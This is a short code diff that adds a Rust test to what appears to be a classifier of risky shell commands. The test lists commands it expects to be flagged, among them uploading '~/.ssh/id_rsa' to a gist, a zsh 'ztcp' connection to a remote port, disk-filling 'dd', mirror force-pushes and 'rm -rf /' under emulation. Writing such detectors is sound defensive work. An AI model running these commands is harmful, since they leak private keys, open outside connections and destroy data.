@@ -675,3 +675,18 @@ fn other_languages() {
     );
     has("history | sh", "run-code unknown shell");
 }
+
+/// Everything is pushed over, filled up, or run as another shell would.
+#[test]
+fn less_usual_forms() {
+    has("git push --mirror", "force-push origin all");
+    has("git push origin --de topic", "branch-delete origin topic");
+    has("dd if=/dev/zero of=x bs=1M", "resource-exhaustion disk");
+    lacks("dd if=/dev/zero of=x bs=1M count=1", "resource-exhaustion");
+    has(
+        "gh gist create ~/.ssh/id_rsa",
+        "read-secret /home/user/.ssh/id_rsa",
+    );
+    has("ztcp 203.0.113.9 4444", "connect tcp://203.0.113.9:4444");
+    all_delete_root(&["emulate sh -c 'rm -rf /'"]);
+}
